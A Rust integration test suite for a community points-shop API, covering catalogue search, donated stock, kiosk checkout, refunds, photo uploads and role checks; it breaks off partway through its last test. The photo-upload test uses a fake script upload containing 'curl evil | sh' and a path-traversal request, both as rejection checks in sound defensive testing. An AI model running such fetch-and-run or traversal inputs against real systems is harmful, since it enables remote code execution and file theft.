//! The points shop over HTTP: browsing, catalogue management, donated stock, the kiosk's
//! checkout with its retries, receipts, refunds, the daily summary, photo uploads, and who
//! may do what.

use linli_app::roles::Role;
use linli_server::cards::{self, token};
use linli_server::ledger;
use linli_server::store::{self, now};
use serde_json::{json, Value};

use crate::helpers::{assert_error, json, Person, TestApp, PASSWORD};
use crate::ledger::grant_points;

pub async fn kiosk(app: &TestApp) -> Person {
    let root = app.org_root().await;
    app.person_with_role("梅林公益超市", Role::Kiosk, root)
        .await
}

/// Creates an item through the API and stocks it with a donation of `stock` units.
pub async fn item(app: &TestApp, admin: &Person, body: Value, stock: i64) -> Value {
    let resp = app
        .post(&admin.client, "/api/v1/admin/shop/items", &body)
        .await;
    assert_eq!(resp.status(), 201, "{}", resp.text().await.unwrap());
    let item = json(resp).await;
    if stock > 0 {
        let donor = donor(app, admin, "汉阳区爱心超市").await;
        let resp = app
            .post(
                &admin.client,
                "/api/v1/admin/shop/stock-in",
                &json!({"donor_id": donor, "item_id": item["id"], "quantity": stock}),
            )
            .await;
        assert_eq!(resp.status(), 201, "{}", resp.text().await.unwrap());
    }
    item
}

/// The id of the donor with this name, registering it first if needed.
pub async fn donor(app: &TestApp, admin: &Person, name: &str) -> i64 {
    let all = json(app.get(&admin.client, "/api/v1/admin/shop/donors").await).await;
    if let Some(d) = all.as_array().unwrap().iter().find(|d| d["name"] == name) {
        return d["id"].as_i64().unwrap();
    }
    let resp = app
        .post(
            &admin.client,
            "/api/v1/admin/shop/donors",
            &json!({"name": name, "kind": "merchant", "contact": "027-8888 0000"}),
        )
        .await;
    assert_eq!(resp.status(), 201);
    json(resp).await["id"].as_i64().unwrap()
}

/// A member made in the store (no sign-in), with `points` and the phone's live QR text.
pub async fn member_with_token(
    app: &TestApp,
    admin: &Person,
    name: &str,
    points: i64,
) -> (i64, String) {
    let (n, phone) = (name.to_string(), app.fresh_phone());
    let (id, qr) = app
        .db
        .write(move |tx| {
            let id = store::accounts::insert_user(tx, &n, &phone, "x", 0)?;
            let card = cards::card_of(tx, id, now())?;
            let secret = token::secret(tx, now())?;
            Ok((id, token::issue(&secret, &card.number, now()).qr))
        })
        .await
        .unwrap();
    if points > 0 {
        grant_points(app, admin, id, points, &format!("fund-{id}")).await;
    }
    (id, qr)
}

pub async fn checkout(app: &TestApp, kiosk: &Person, body: &Value) -> reqwest::Response {
    app.post(&kiosk.client, "/api/v1/kiosk/checkout", body)
        .await
}

pub async fn stock_of(app: &TestApp, id: &Value) -> i64 {
    let resp = app
        .get(&app.client, &format!("/api/v1/shop/items/{id}"))
        .await;
    json(resp).await["stock"].as_i64().unwrap()
}

pub async fn balance_of(app: &TestApp, user_id: i64) -> i64 {
    app.db
        .read(move |c| ledger::balance_of_user(c, user_id))
        .await
        .unwrap()
}

pub async fn books_balance(app: &TestApp) {
    let broken = app.db.read(ledger::broken_invariants).await.unwrap();
    assert!(broken.is_empty(), "{broken:?}");
}

fn soap() -> Value {
    json!({"name": "香皂", "category": "日用品", "price": 30, "tags": ["清洁"],
           "description": "上海药皂 125g"})
}

fn detergent() -> Value {
    json!({"name": "洗衣液", "category": "日用品", "price": 230, "monthly_limit": 2,
           "description": "蓝月亮洗衣液 2kg"})
}

fn schoolbag() -> Value {
    json!({"name": "书包", "category": "学习用品", "price": 260, "barcode": "4006381333931"})
}

/// A resident browses: categories, Chinese substring search, price sort, keyset pages,
/// "can afford" with their balance, and the item page's out-of-stock state.
#[tokio::test]
async fn residents_browse_search_sort_and_filter_by_what_they_can_afford() {
    let app = TestApp::spawn().await;
    let admin = app.login_as_admin().await;
    let s = item(&app, &admin, soap(), 10).await;
    item(&app, &admin, detergent(), 5).await;
    let bag = item(&app, &admin, schoolbag(), 0).await;
    let li = app.resident("李梅").await;
    grant_points(&app, &admin, li.id, 100, "li").await;

    let page = json(
        app.get(&app.client, "/api/v1/shop/items?sort=price_asc")
            .await,
    )
    .await;
    let names: Vec<&str> = page["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["香皂", "洗衣液", "书包"]);
    assert_eq!(page["balance"], Value::Null);

    let found = json(app.get(&app.client, "/api/v1/shop/items?q=%E8%A1%A3").await).await;
    assert_eq!(found["items"][0]["name"], "洗衣液");
    assert_eq!(found["items"].as_array().unwrap().len(), 1);
    let cat = json(
        app.get(
            &app.client,
            "/api/v1/shop/items?category=%E5%AD%A6%E4%B9%A0%E7%94%A8%E5%93%81",
        )
        .await,
    )
    .await;
    assert_eq!(cat["items"][0]["name"], "书包");
    assert_eq!(cat["items"][0]["in_stock"], false);

    // Pages of one, by cursor, cover everything once.
    let mut seen = Vec::new();
    let mut after = String::new();
    loop {
        let url = format!("/api/v1/shop/items?sort=price_desc&limit=1{after}");
        let p = json(app.get(&app.client, &url).await).await;
        for i in p["items"].as_array().unwrap() {
            seen.push(i["price"].as_i64().unwrap());
        }
        match p["next_cursor"].as_str() {
            Some(c) => after = format!("&after={c}"),
            None => break,
        }
    }
    assert_eq!(seen, [260, 230, 30]);

    assert_error(
        app.get(&app.client, "/api/v1/shop/items?affordable=true")
            .await,
        401,
        "unauthenticated",
    )
    .await;
    let mine = json(
        app.get(&li.client, "/api/v1/shop/items?affordable=true")
            .await,
    )
    .await;
    assert_eq!(mine["balance"], 100);
    assert_eq!(mine["items"].as_array().unwrap().len(), 1);
    assert_eq!(mine["items"][0]["id"], s["id"]);

    let page = json(
        app.get(&app.client, &format!("/api/v1/shop/items/{}", bag["id"]))
            .await,
    )
    .await;
    assert_eq!(page["in_stock"], false);
    assert_eq!(page["on_sale"], true);
    assert_eq!(page["barcode"], "4006381333931");
    let by_code = json(
        app.get(&app.client, "/api/v1/shop/barcode/4006381333931")
            .await,
    )
    .await;
    assert_eq!(by_code["id"], bag["id"]);
    let cats = json(app.get(&app.client, "/api/v1/shop/categories").await).await;
    assert_eq!(cats.as_array().unwrap().len(), 2);
    assert_error(
        app.get(&app.client, "/api/v1/shop/items?after=nonsense")
            .await,
        400,
        "bad_request",
    )
    .await;
}

/// Admins edit, deactivate and bulk-edit; a generated barcode is a valid EAN-13; a taken
/// barcode is a 409; deactivated items leave the catalogue and their page.
#[tokio::test]
async fn admins_edit_deactivate_and_bulk_edit_items() {
    let app = TestApp::spawn().await;
    let admin = app.login_as_admin().await;
    let s = item(&app, &admin, soap(), 3).await;
    let code = s["barcode"].as_str().unwrap();
    assert!(code.starts_with("200") && code.len() == 13, "{code}");
    let bag = item(&app, &admin, schoolbag(), 0).await;

    let resp = app
        .patch(
            &admin.client,
            &format!("/api/v1/admin/shop/items/{}", s["id"]),
            &json!({"price": 35, "barcode": "4006381333931"}),
        )
        .await;
    assert_error(resp, 409, "conflict").await;
    let resp = app
        .patch(
            &admin.client,
            &format!("/api/v1/admin/shop/items/{}", s["id"]),
            &json!({"price": 35, "name": "药皂"}),
        )
        .await;
    assert_eq!(resp.status(), 200);
    assert_eq!(json(resp).await["price"], 35);

    let resp = app
        .post(
            &admin.client,
            "/api/v1/admin/shop/items/bulk",
            &json!({"reason": "月度调价", "lines": [
                {"item_id": s["id"], "price": 40, "stock": 8},
                {"item_id": bag["id"], "price": 250}]}),
        )
        .await;
    assert_eq!(resp.status(), 200, "{}", resp.text().await.unwrap());
    assert_eq!(stock_of(&app, &s["id"]).await, 8);
    // All or none: a bad line leaves the others untouched.
    let resp = app
        .post(
            &admin.client,
            "/api/v1/admin/shop/items/bulk",
            &json!({"reason": "错误", "lines": [
                {"item_id": s["id"], "price": 50}, {"item_id": bag["id"], "price": 0}]}),
        )
        .await;
    assert_error(resp, 422, "validation").await;
    let page = json(
        app.get(&app.client, &format!("/api/v1/shop/items/{}", s["id"]))
            .await,
    )
    .await;
    assert_eq!(page["price"], 40);
    let resp = app
        .post(
            &admin.client,
            "/api/v1/admin/shop/items/bulk",
            &json!({"reason": "", "lines": [{"item_id": s["id"], "price": 50}]}),
        )
        .await;
    assert_error(resp, 422, "validation").await;

    let resp = app
        .patch(
            &admin.client,
            &format!("/api/v1/admin/shop/items/{}", bag["id"]),
            &json!({"active": false}),
        )
        .await;
    assert_eq!(json(resp).await["active"], false);
    let list = json(app.get(&app.client, "/api/v1/shop/items").await).await;
    assert_eq!(list["items"].as_array().unwrap().len(), 1);
    assert_error(
        app.get(&app.client, &format!("/api/v1/shop/items/{}", bag["id"]))
            .await,
        404,
        "not_found",
    )
    .await;
    let all = json(app.get(&admin.client, "/api/v1/admin/shop/items").await).await;
    assert_eq!(all.as_array().unwrap().len(), 2);
    for bad in [
        json!({"name": "", "category": "x", "price": 1}),
        json!({"name": "x", "category": "x", "price": 0}),
        json!({"name": "x", "category": "x", "price": 1, "barcode": "4006381333932"}),
        json!({"name": "x", "category": "x", "price": 1, "available_from": 10, "available_until": 5}),
        json!({"name": "x", "category": "", "price": 1}),
    ] {
        let resp = app
            .post(&admin.client, "/api/v1/admin/shop/items", &bad)
            .await;
        assert_error(resp, 422, "validation").await;
    }
    books_balance(&app).await;
}

/// The kiosk checks out with a card number and PIN: stock falls, one redeem debits the
/// member, the receipt shows on the kiosk, in the member's receipts and history; a retry
/// with the same key replays without charging; the same key with another cart is a 409.
#[tokio::test]
async fn a_checkout_charges_once_and_writes_the_receipt_everywhere() {
    let app = TestApp::spawn().await;
    let admin = app.login_as_admin().await;
    let k = kiosk(&app).await;
    let s = item(&app, &admin, soap(), 10).await;
    let d = item(&app, &admin, detergent(), 5).await;
    let li = app.resident("李梅").await;
    grant_points(&app, &admin, li.id, 500, "li").await;
    let resp = li
        .client
        .put(app.url("/api/v1/me/card/pin"))
        .json(&json!({"pin": "2468"}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let number = json(app.get(&li.client, "/api/v1/me/card").await).await["number"]
        .as_str()
        .unwrap()
        .to_string();

    let body = json!({"card_number": number, "pin": "2468", "idempotency_key": "k-1",
        "lines": [{"item_id": s["id"], "quantity": 2}, {"item_id": d["id"], "quantity": 1}]});
    let resp = checkout(&app, &k, &body).await;
    assert_eq!(resp.status(), 201, "{}", resp.text().await.unwrap());
    let receipt = json(resp).await;
    assert_eq!(receipt["total"], 2 * 30 + 230);
    assert_eq!(receipt["balance"], 500 - 290);
    assert_eq!(receipt["member_name"], "李梅");
    assert_eq!(receipt["lines"].as_array().unwrap().len(), 2);
    assert!(receipt["card"].as_str().unwrap().starts_with("****"));
    assert_eq!(stock_of(&app, &s["id"]).await, 8);
    assert_eq!(stock_of(&app, &d["id"]).await, 4);

    // The same request again (a network drop): the same receipt, nothing charged.
    let again = checkout(&app, &k, &body).await;
    assert_eq!(again.status(), 200);
    assert!(again.headers().contains_key("idempotent-replayed"));
    assert_eq!(json(again).await["order_id"], receipt["order_id"]);
    assert_eq!(balance_of(&app, li.id).await, 210);
    assert_eq!(stock_of(&app, &s["id"]).await, 8);
    // The same key for another cart is refused.
    let mut other = body.clone();
    other["lines"] = json!([{"item_id": s["id"], "quantity": 1}]);
    assert_error(checkout(&app, &k, &other).await, 409, "conflict").await;

    // The member sees it in their receipts and their points history.
    let mine = json(app.get(&li.client, "/api/v1/me/shop/orders").await).await;
    assert_eq!(mine["items"][0]["order_id"], receipt["order_id"]);
    let one = app
        .get(
            &li.client,
            &format!("/api/v1/me/shop/orders/{}", receipt["order_id"]),
        )
        .await;
    assert_eq!(one.status(), 200);
    let history = json(app.get(&li.client, "/api/v1/me/points/history").await).await;
    assert_eq!(history["items"][0]["kind"], "redeem");
    assert_eq!(history["items"][0]["amount"], -290);
    assert_eq!(history["items"][0]["transfer_id"], receipt["transfer_id"]);
    let t = json(
        app.get(
            &admin.client,
            &format!("/api/v1/admin/points/transfers/{}", receipt["transfer_id"]),
        )
        .await,
    )
    .await;
    assert_eq!(t["meta"]["order_id"], receipt["order_id"]);
    // Someone else cannot see it.
    let wang = app.resident("王强").await;
    assert_error(
        app.get(
            &wang.client,
            &format!("/api/v1/me/shop/orders/{}", receipt["order_id"]),
        )
        .await,
        404,
        "not_found",
    )
    .await;
    let theirs = json(app.get(&wang.client, "/api/v1/me/shop/orders").await).await;
    assert!(theirs["items"].as_array().unwrap().is_empty());
    // A wrong PIN charges nothing.
    let wrong = json!({"card_number": number, "pin": "1111", "idempotency_key": "k-2",
        "lines": [{"item_id": s["id"], "quantity": 1}]});
    assert_error(checkout(&app, &k, &wrong).await, 422, "validation").await;
    assert_eq!(balance_of(&app, li.id).await, 210);
    books_balance(&app).await;
}

/// Refusals leave everything as it was: too few points, over the monthly limit, out of
/// stock, an inactive item, an unknown item.
#[tokio::test]
async fn a_refused_checkout_changes_nothing() {
    let app = TestApp::spawn().await;
    let admin = app.login_as_admin().await;
    let k = kiosk(&app).await;
    let s = item(&app, &admin, soap(), 2).await;
    let d = item(&app, &admin, detergent(), 10).await;
    let (uid, qr) = member_with_token(&app, &admin, "陈伟", 1000).await;
    let (poor, poor_qr) = member_with_token(&app, &admin, "赵磊", 40).await;
    let go = |qr: &str, key: &str, lines: Value| json!({"qr": qr, "idempotency_key": key, "lines": lines});

    let r = checkout(
        &app,
        &k,
        &go(&poor_qr, "p1", json!([{"item_id": s["id"], "quantity": 2}])),
    )
    .await;
    let body = assert_error(r, 409, "conflict").await;
    assert_eq!(body["error"]["message"], "积分余额不足");
    assert_eq!(stock_of(&app, &s["id"]).await, 2);
    assert_eq!(balance_of(&app, poor).await, 40);

    let r = checkout(
        &app,
        &k,
        &go(&qr, "c1", json!([{"item_id": d["id"], "quantity": 3}])),
    )
    .await;
    let body = assert_error(r, 409, "conflict").await;
    assert_eq!(body["error"]["message"], "超过该商品每人每月的兑换限额");
    let r = checkout(
        &app,
        &k,
        &go(&qr, "c2", json!([{"item_id": d["id"], "quantity": 2}])),
    )
    .await;
    assert_eq!(r.status(), 201);
    let r = checkout(
        &app,
        &k,
        &go(&qr, "c3", json!([{"item_id": d["id"], "quantity": 1}])),
    )
    .await;
    assert_error(r, 409, "conflict").await;

    let r = checkout(
        &app,
        &k,
        &go(&qr, "c4", json!([{"item_id": s["id"], "quantity": 3}])),
    )
    .await;
    let body = assert_error(r, 409, "conflict").await;
    assert_eq!(
        body["error"]["message"],
        "库存不足，请减少数量或选择其他商品"
    );
    assert_eq!(stock_of(&app, &s["id"]).await, 2);

    app.patch(
        &admin.client,
        &format!("/api/v1/admin/shop/items/{}", s["id"]),
        &json!({"active": false}),
    )
    .await;
    let r = checkout(
        &app,
        &k,
        &go(&qr, "c5", json!([{"item_id": s["id"], "quantity": 1}])),
    )
    .await;
    assert_error(r, 409, "conflict").await;
    let r = checkout(
        &app,
        &k,
        &go(&qr, "c6", json!([{"item_id": 424242, "quantity": 1}])),
    )
    .await;
    assert_error(r, 422, "validation").await;
    for lines in [
        json!([]),
        json!([{"item_id": d["id"], "quantity": 0}]),
        json!([{"item_id": d["id"], "quantity": 1}, {"item_id": d["id"], "quantity": 1}]),
    ] {
        assert_error(
            checkout(&app, &k, &go(&qr, "c7", lines)).await,
            422,
            "validation",
        )
        .await;
    }
    assert_error(
        checkout(
            &app,
            &k,
            &go(
                "linli:tok:bogus",
                "c8",
                json!([{"item_id": d["id"], "quantity": 1}]),
            ),
        )
        .await,
        422,
        "validation",
    )
    .await;
    assert_eq!(balance_of(&app, uid).await, 1000 - 460);
    books_balance(&app).await;
}

/// A refund gives the points back (keeping their expiry) and the goods back, once; the
/// daily summary counts only what stands and attributes goods to their donor.
#[tokio::test]
async fn refunds_restore_points_and_stock_once_and_the_summary_adds_up() {
    let app = TestApp::spawn().await;
    let admin = app.login_as_admin().await;
    let k = kiosk(&app).await;
    let s = item(&app, &admin, soap(), 10).await;
    let bag = item(&app, &admin, schoolbag(), 0).await;
    let school = donor(&app, &admin, "四新小学").await;
    let resp = app
        .post(
            &admin.client,
            "/api/v1/admin/shop/stock-in",
            &json!({"donor_id": school, "item_id": bag["id"], "quantity": 4,
                    "received_on": "2026-03-01", "note": "开学捐赠"}),
        )
        .await;
    assert_eq!(resp.status(), 201);
    let (uid, qr) = member_with_token(&app, &admin, "杨秀英", 1000).await;
    let lots_before = app
        .db
        .read(move |c| {
            Ok(c.query_row(
                "SELECT MAX(expires_at) FROM ledger_lots l JOIN ledger_accounts a
                 ON a.id = l.account_id WHERE a.user_id = ?1",
                [uid],
                |r| r.get::<_, Option<i64>>(0),
            )?)
        })
        .await
        .unwrap();
    let r = checkout(
        &app,
        &k,
        &json!({"qr": qr, "idempotency_key": "r1",
        "lines": [{"item_id": s["id"], "quantity": 3}, {"item_id": bag["id"], "quantity": 1}]}),
    )
    .await;
    assert_eq!(r.status(), 201);
    let first = json(r).await;
    let r = checkout(
        &app,
        &k,
        &json!({"qr": qr, "idempotency_key": "r2",
        "lines": [{"item_id": s["id"], "quantity": 1}]}),
    )
    .await;
    let second = json(r).await;
    assert_eq!(balance_of(&app, uid).await, 1000 - 350 - 30);

    let url = format!("/api/v1/admin/shop/orders/{}/refund", first["order_id"]);
    assert_error(
        app.post(&admin.client, &url, &json!({"reason": ""})).await,
        422,
        "validation",
    )
    .await;
    let r = app
        .post(&admin.client, &url, &json!({"reason": "商品破损退还"}))
        .await;
    assert_eq!(r.status(), 200);
    let refunded = json(r).await;
    assert_eq!(refunded["status"], "refunded");
    assert_eq!(balance_of(&app, uid).await, 1000 - 30);
    assert_eq!(stock_of(&app, &s["id"]).await, 9);
    assert_eq!(stock_of(&app, &bag["id"]).await, 4);
    let again = app
        .post(&admin.client, &url, &json!({"reason": "商品破损退还"}))
        .await;
    assert_eq!(again.status(), 200);
    assert!(again.headers().contains_key("idempotent-replayed"));
    assert_eq!(balance_of(&app, uid).await, 1000 - 30);
    let refund_id = refunded["refund_transfer_id"].as_i64().unwrap();
    let refund_expiry = app
        .db
        .read(move |c| {
            Ok(c.query_row(
                "SELECT expires_at FROM ledger_lots WHERE transfer_id = ?1",
                [refund_id],
                |r| r.get::<_, Option<i64>>(0),
            )?)
        })
        .await
        .unwrap();
    assert_eq!(
        refund_expiry, lots_before,
        "refunded points keep their expiry"
    );

    let today = first["day"].as_str().unwrap();
    let sum = json(
        app.get(
            &admin.client,
            &format!("/api/v1/admin/shop/summary?day={today}"),
        )
        .await,
    )
    .await;
    assert_eq!(sum["orders"], 1);
    assert_eq!(sum["items_out"], 1);
    assert_eq!(sum["points_redeemed"], 30);
    assert_eq!(sum["refunded_orders"], 1);
    assert_eq!(sum["by_donor"][0]["name"], "汉阳区爱心超市");
    assert_eq!(sum["by_item"][0]["item_id"], s["id"]);
    let orders = json(
        app.get(
            &admin.client,
            &format!("/api/v1/admin/shop/orders?day={today}"),
        )
        .await,
    )
    .await;
    assert_eq!(orders["items"].as_array().unwrap().len(), 2);
    assert_eq!(orders["items"][0]["order_id"], second["order_id"]);
    assert_error(
        app.get(&admin.client, "/api/v1/admin/shop/summary?day=2026-02-30")
            .await,
        422,
        "validation",
    )
    .await;
    books_balance(&app).await;
}

/// Donations raise stock and fill the honour roll; adjustments need a reason and cannot go
/// below zero; a count records the shrinkage; the low-stock list and the event trail show
/// it all; the database itself refuses negative stock and edits to events.
#[tokio::test]
async fn donated_stock_adjustments_and_counts_are_recorded_events() {
    let app = TestApp::spawn().await;
    let admin = app.login_as_admin().await;
    let s = item(&app, &admin, soap(), 10).await;
    let d = item(&app, &admin, detergent(), 2).await;
    let sid = s["id"].as_i64().unwrap();

    let adj = |delta: i64, reason: &str| json!({"item_id": sid, "delta": delta, "reason": reason});
    let r = app
        .post(
            &admin.client,
            "/api/v1/admin/shop/adjustments",
            &adj(-2, "破损"),
        )
        .await;
    assert_eq!(r.status(), 201);
    assert_eq!(json(r).await["stock_after"], 8);
    let r = app
        .post(
            &admin.client,
            "/api/v1/admin/shop/adjustments",
            &adj(-9, "丢失"),
        )
        .await;
    let body = assert_error(r, 409, "conflict").await;
    assert_eq!(body["error"]["message"], "库存不能小于零");
    let r = app
        .post(
            &admin.client,
            "/api/v1/admin/shop/adjustments",
            &adj(-1, " "),
        )
        .await;
    assert_error(r, 422, "validation").await;
    let r = app
        .post(
            &admin.client,
            "/api/v1/admin/shop/adjustments",
            &adj(0, "无"),
        )
        .await;
    assert_error(r, 422, "validation").await;

    let r = app
        .post(
            &admin.client,
            "/api/v1/admin/shop/counts",
            &json!({"note": "月底盘点", "lines": [
                {"item_id": sid, "counted": 6}, {"item_id": d["id"], "counted": 2}]}),
        )
        .await;
    assert_eq!(r.status(), 201);
    let report = json(r).await;
    assert_eq!(report["missing_units"], 2);
    assert_eq!(report["net_value"], -60);
    assert_eq!(report["lines"][0]["expected"], 8);
    assert_eq!(stock_of(&app, &s["id"]).await, 6);

    let low = json(
        app.get(&admin.client, "/api/v1/admin/shop/low-stock?threshold=5")
            .await,
    )
    .await;
    assert_eq!(low[0]["id"], d["id"]);
    assert_eq!(low.as_array().unwrap().len(), 1);
    let events = json(
        app.get(
            &admin.client,
            &format!("/api/v1/admin/shop/stock-events?item_id={sid}"),
        )
        .await,
    )
    .await;
    let kinds: Vec<&str> = events["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["count", "adjust", "stock_in"]);

    let roll = json(app.get(&app.client, "/api/v1/shop/honour-roll").await).await;
    assert_eq!(roll[0]["name"], "汉阳区爱心超市");
    assert_eq!(roll[0]["total_quantity"], 12);
    assert_eq!(roll[0]["total_value"], 10 * 30 + 2 * 230);
    assert!(roll[0].get("contact").is_none());
    let r = app
        .post(
            &admin.client,
            "/api/v1/admin/shop/donors",
            &json!({"name": "汉阳区爱心超市", "kind": "unit"}),
        )
        .await;
    assert_error(r, 409, "conflict").await;
    let r = app
        .post(
            &admin.client,
            "/api/v1/admin/shop/stock-in",
            &json!({"donor_id": 424242, "item_id": sid, "quantity": 1}),
        )
        .await;
    assert_error(r, 422, "validation").await;

    let refused = app
        .db
        .write(move |tx| {
            let neg = tx.execute("UPDATE shop_items SET stock = -1 WHERE id = ?1", [sid]);
            let edit = tx.execute("UPDATE shop_stock_events SET delta = 99", []);
            let del = tx.execute("DELETE FROM shop_stock_events", []);
            Ok((neg.is_err(), edit.is_err(), del.is_err()))
        })
        .await
        .unwrap();
    assert_eq!(refused, (true, true, true));
}

fn png(w: u32, h: u32) -> Vec<u8> {
    let img = image::DynamicImage::ImageRgb8(image::RgbImage::from_pixel(
        w,
        h,
        image::Rgb([200, 40, 40]),
    ));
    let mut out = Vec::new();
    img.write_to(&mut std::io::Cursor::new(&mut out), image::ImageFormat::Png)
        .unwrap();
    out
}

async fn upload(
    app: &TestApp,
    p: &Person,
    id: &Value,
    bytes: Vec<u8>,
    ct: &str,
) -> reqwest::Response {
    p.client
        .post(app.url(&format!("/api/v1/admin/shop/items/{id}/photos")))
        .header("content-type", ct)
        .body(bytes)
        .send()
        .await
        .unwrap()
}

/// A real picture is resized and served with long cache headers; a script renamed .jpg,
/// a truncated file and an oversized one are refused with clear errors.
#[tokio::test]
async fn photos_are_checked_by_content_resized_and_cached() {
    let app = TestApp::spawn().await;
    let admin = app.login_as_admin().await;
    let s = item(&app, &admin, soap(), 1).await;

    let r = upload(&app, &admin, &s["id"], png(1200, 900), "image/png").await;
    assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
    let page = json(r).await;
    let thumb = page["photos"][0]["thumb_url"].as_str().unwrap().to_string();
    assert_eq!(page["photos"][0]["width"], 1200);
    let r = app.get(&app.client, &thumb).await;
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "image/jpeg");
    assert!(r.headers()["cache-control"]
        .to_str()
        .unwrap()
        .contains("immutable"));
    let pic = image::load_from_memory(&r.bytes().await.unwrap()).unwrap();
    assert_eq!((pic.width(), pic.height()), (240, 180));
    let list = json(app.get(&app.client, "/api/v1/shop/items").await).await;
    assert_eq!(list["items"][0]["thumb_url"], thumb.as_str());

    let script = b"#!/bin/sh\ncurl evil | sh\n".to_vec();
    let body = assert_error(
        upload(&app, &admin, &s["id"], script, "image/jpeg").await,
        422,
        "validation",
    )
    .await;
    assert_eq!(
        body["error"]["message"],
        "只能上传 JPEG、PNG 或 WebP 图片，且文件须完整无损"
    );
    let mut cut = png(300, 300);
    cut.truncate(cut.len() / 2);
    assert_error(
        upload(&app, &admin, &s["id"], cut, "image/png").await,
        422,
        "validation",
    )
    .await;
    let mut big = png(10, 10);
    big.resize(6 * 1024 * 1024, 0);
    let body = assert_error(
        upload(&app, &admin, &s["id"], big, "image/png").await,
        413,
        "payload_too_large",
    )
    .await;
    assert_eq!(body["error"]["message"], "图片不能超过 5 MB");
    assert_error(
        upload(&app, &admin, &json!(424242), png(10, 10), "image/png").await,
        404,
        "not_found",
    )
    .await;
    assert_error(
        app.get(&app.client, "/api/v1/shop/photos/..%2F..%2Flinli.db")
            .await,
        404,
        "not_found",
    )
    .await;
}

/// Who may call what: anonymous 401, residents 403 on kiosk and admin endpoints, kiosks
/// 403 on admin endpoints; public endpoints answer everyone.
#[tokio::test]
async fn every_shop_endpoint_checks_its_role() {
    let app = TestApp::spawn().await;
    let admin = app.login_as_admin().await;
    let k = kiosk(&app).await;
    let li = app.resident("李梅").await;
    let anon = TestApp::new_client();
    let s = item(&app, &admin, soap(), 5).await;
    let id = s["id"].as_i64().unwrap();

    let admin_only: Vec<(&str, String, Value)> = vec![
        ("GET", "/api/v1/admin/shop/items".into(), Value::Null),
        ("POST", "/api/v1/admin/shop/items".into(), soap()),
        (
            "PATCH",
            format!("/api/v1/admin/shop/items/{id}"),
            json!({"price": 31}),
        ),
        (
            "POST",
            "/api/v1/admin/shop/items/bulk".into(),
            json!({"reason": "x", "lines": [{"item_id": id, "price": 32}]}),
        ),
        ("GET", "/api/v1/admin/shop/donors".into(), Value::Null),
        (
            "POST",
            "/api/v1/admin/shop/donors".into(),
            json!({"name": "新捐赠方", "kind": "unit"}),
        ),
        (
            "POST",
            "/api/v1/admin/shop/stock-in".into(),
            json!({"donor_id": 1, "item_id": id, "quantity": 1}),
        ),
        (
            "POST",
            "/api/v1/admin/shop/adjustments".into(),
            json!({"item_id": id, "delta": 1, "reason": "更正"}),
        ),
        ("GET", "/api/v1/admin/shop/stock-events".into(), Value::Null),
        ("GET", "/api/v1/admin/shop/low-stock".into(), Value::Null),
        (
            "POST",
            "/api/v1/admin/shop/counts".into(),
            json!({"lines": [{"item_id": id, "counted": 5}]}),
        ),
        ("GET", "/api/v1/admin/shop/orders".into(), Value::Null),
        ("GET", "/api/v1/admin/shop/orders/1".into(), Value::Null),
        (
            "POST",
            "/api/v1/admin/shop/orders/1/refund".into(),
            json!({"reason": "x"}),
        ),
        ("GET", "/api/v1/admin/shop/summary".into(), Value::Null),
    ];
    let send = |c: &reqwest::Client, m: &str, p: &str, b: &Value| {
        let mut req = c.request(m.parse().unwrap(), app.url(p));
        if !b.is_null() {
            req = req.json(b);
        }
        req.send()
    };
    for (m, p, b) in &admin_only {
        assert_error(send(&anon, m, p, b).await.unwrap(), 401, "unauthenticated").await;
        assert_error(send(&li.client, m, p, b).await.unwrap(), 403, "forbidden").await;
        assert_error(send(&k.client, m, p, b).await.unwrap(), 403, "forbidden").await;
    }
    let photo = app.url(&format!("/api/v1/admin/shop/items/{id}/photos"));
    let r = anon.post(&photo).body(png(4, 4)).send().await.unwrap();
    assert_error(r, 401, "unauthenticated").await;
    let r = li.client.post(&photo).body(png(4, 4)).send().await.unwrap();
    assert_error(r, 403, "forbidden").await;
    let r = k.client.post(&photo).body(png(4, 4)).send().await.unwrap();
    assert_error(r, 403, "forbidden").await;

    // The kiosk endpoint: kiosks and admins only.
    let (_, qr) = member_with_token(&app, &admin, "周杰", 100).await;
    let body =
        json!({"qr": qr, "idempotency_key": "a1", "lines": [{"item_id": id, "quantity": 1}]});
    assert_error(
        send(&anon, "POST", "/api/v1/kiosk/checkout", &body)
            .await
            .unwrap(),
        401,
        "unauthenticated",
    )
    .await;
    assert_error(checkout(&app, &li, &body).await, 403, "forbidden").await;
    assert_eq!(checkout(&app, &k, &body).await.status(), 201);
    let body2 =
        json!({"qr": qr, "idempotency_key": "a2", "lines": [{"item_id": id, "quantity": 1}]});
    assert_eq!(checkout(&app, &admin, &body2).await.status(), 201);

    // Members' own receipts: signed in only.
    assert_error(
        app.get(&anon, "/api/v1/me/shop/orders").await,
        401,
        "unauthenticated",
    )
    .await;
    assert_error(
        app.get(&anon, "/api/v1/me/shop/orders/1").await,
        401,
        "unauthenticated",
    )
    .await;
    assert_error(
        app.get(&li.client, "/api/v1/me/shop/orders/1").await,
        404,
        "not_found",
    )
    .await;

    // Admins pass every admin endpoint.
    for (m, p, b) in &admin_only {
        let s = send(&admin.client, m, p, b)
            .await
            .unwrap()
            .status()
            .as_u16();
        assert!(s < 300, "{m} {p} -> {s}");
    }
    // Public endpoints answer anyone.
    for p in [
        "/api/v1/shop/items".to_string(),
        "/api/v1/shop/categories".into(),
        format!("/api/v1/shop/items/{id}"),
        "/api/v1/shop/honour-roll".into(),
    ] {
        assert_eq!(app.get(&anon, &p).await.status(), 200, "{p}");
    }
}

/// At the kiosk the member comes with what they took this month of each limited item
/// (refunded orders not counted), so the cart can stop at the limit; only kiosks and
/// admins may ask, and the card is checked as for a checkout.
#[tokio::test]
async fn the_kiosk_sees_what_the_monthly_limit_leaves() {
    let app = TestApp::spawn().await;
    let admin = app.login_as_admin().await;
    let k = kiosk(&app).await;
    let li = app.resident("李梅").await;
    let d = item(&app, &admin, detergent(), 9).await;
    let s = item(&app, &admin, soap(), 9).await;
    let (user_id, qr) = member_with_token(&app, &admin, "周杰", 2000).await;
    let ask = json!({"qr": qr});
    let member = |c: &'static str| {
        let client = if c == "kiosk" {
            &k.client
        } else {
            &admin.client
        };
        app.post(client, "/api/v1/kiosk/member", &ask)
    };

